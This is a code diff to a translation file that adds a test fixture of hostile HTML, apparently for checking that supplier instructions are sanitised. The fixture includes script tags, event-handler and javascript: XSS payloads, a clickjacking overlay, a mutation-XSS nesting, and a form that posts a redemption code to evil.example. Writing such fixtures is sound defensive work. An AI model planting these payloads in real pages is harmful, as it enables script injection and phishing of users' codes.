@@ -68,3 +68,12 @@ const vietnamese: typeof english = {
   ],
   note: 'Mã cũng được gửi qua e-mail.',
 };
+
+/** Instructions of a supplier that means ill: nothing of it may run, load, or leave the box it is shown in. */
+export const hostileInstructions =
+  '<script>alert(1)</script><img src="x" onerror="alert(2)"><svg onload="alert(3)"></svg>' +
+  '<iframe src="https://evil.example"></iframe><style>* { display: none }</style>' +
+  '<p style="position: fixed; inset: 0" onclick="alert(4)">Enter the code <strong>at the till</strong>.</p>' +
+  '<p><a href="javascript:alert(5)">Redeem</a> or <a href="https://help.example/redeem">read more</a>.</p>' +
+  '<form action="https://evil.example"><input name="code"><button>Send your code</button></form>' +
+  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(6)"></style></mglyph></table></mtext></math>';
